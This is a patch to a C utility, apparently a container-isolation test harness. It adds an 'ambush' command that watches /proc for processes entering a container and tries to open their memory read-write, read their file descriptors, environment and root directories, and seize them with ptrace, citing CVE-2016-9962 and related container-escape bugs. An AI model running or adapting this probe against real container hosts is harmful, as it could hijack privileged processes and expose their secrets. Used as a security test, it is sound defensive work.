@@ -13,11 +13,13 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/xattr.h>
 #include <sys/sysmacros.h>
 #include <sys/un.h>
 #include <sys/socket.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 static int copy(int fd, const char *name)
@@ -255,6 +257,80 @@ static int verb_exec(int argc, char **argv)
 	return 0;
 }
 
+/* ---- an attack: CVE-2016-9962, CVE-2016-8649, CVE-2016-8659 ---- */
+
+/* True once process @pid executes our own program, as everybody here is meant to. */
+static bool is_ours(pid_t pid)
+{
+	char own[PATH_MAX] = "", other[PATH_MAX] = "", path[64];
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+	if (readlink("/proc/self/exe", own, sizeof(own) - 1) < 0 ||
+		readlink(path, other, sizeof(other) - 1) < 0)
+		return false;
+	return strcmp(own, other) == 0;
+}
+
+/* What could be done with a process that is not (yet) ours: printed.  A process that becomes ours
+ * meanwhile is none. */
+static void ambush(pid_t pid)
+{
+	static const char *const files[] = { "mem", "fd/3", "fd/4", "fd/5", "cwd/.", "root/.",
+		"exe", "environ" };
+	char path[64];
+
+	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
+		int fd;
+
+		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, files[i]);
+		if (is_ours(pid))
+			return;
+		fd = open(path, i == 0 ? O_RDWR | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
+		if (fd >= 0 && !is_ours(pid) && kill(pid, 0) == 0)
+			printf("got %s\n", files[i]);
+		if (fd >= 0)
+			close(fd);
+	}
+	if (!is_ours(pid) && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+		int status;
+
+		if (!is_ours(pid))
+			printf("got it by ptrace\n");
+		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
+			waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
+			ptrace(PTRACE_DETACH, pid, NULL, NULL);
+	}
+}
+
+/* Waits for processes that come into the container, and looks what can be had of them. */
+static int verb_ambush(int argc, char **argv)
+{
+	unsigned long long seen = 0;
+
+	(void)argc;
+	(void)argv;
+	printf("waiting\n");
+	fflush(stdout);
+	for (;;) {
+		DIR *dir = opendir("/proc");
+		struct dirent *entry;
+
+		while (dir && (entry = readdir(dir))) {
+			pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
+
+			if (pid <= 1 || pid == getpid() || is_ours(pid))
+				continue;
+			if (seen++ == 0)
+				printf("somebody came\n");
+			ambush(pid);
+			fflush(stdout);
+		}
+		if (dir)
+			closedir(dir);
+	}
+	return 0;
+}
+
 /* ---- an attack: CVE-2019-5736 ---- */
 
 /* The first process whose program is not ours: a descriptor of the program, and the pid. */
@@ -453,6 +529,8 @@ const struct verb file_verbs[] = {
 	{ "mknod", "PATH c|b|p [MAJ MIN]", "make a device or fifo", 2, 4, verb_mknod },
 	{ "setxattr", "PATH NAME VALUE", "set an extended attribute", 3, 3, verb_setxattr },
 	{ "exec", "PATH ARGUMENT...", "execute a program", 1, ANY, verb_exec },
+	{ "ambush", "", "wait for processes, and try what can be done with them", 0, 0,
+		verb_ambush },
 	{ "steal-exe", "", "wait for another program, and try to write to its file", 0, 0,
 		verb_steal_exe },
 	{ "mounts", "[MOUNTPOINT]", "what is mounted", 0, 1, verb_mounts },
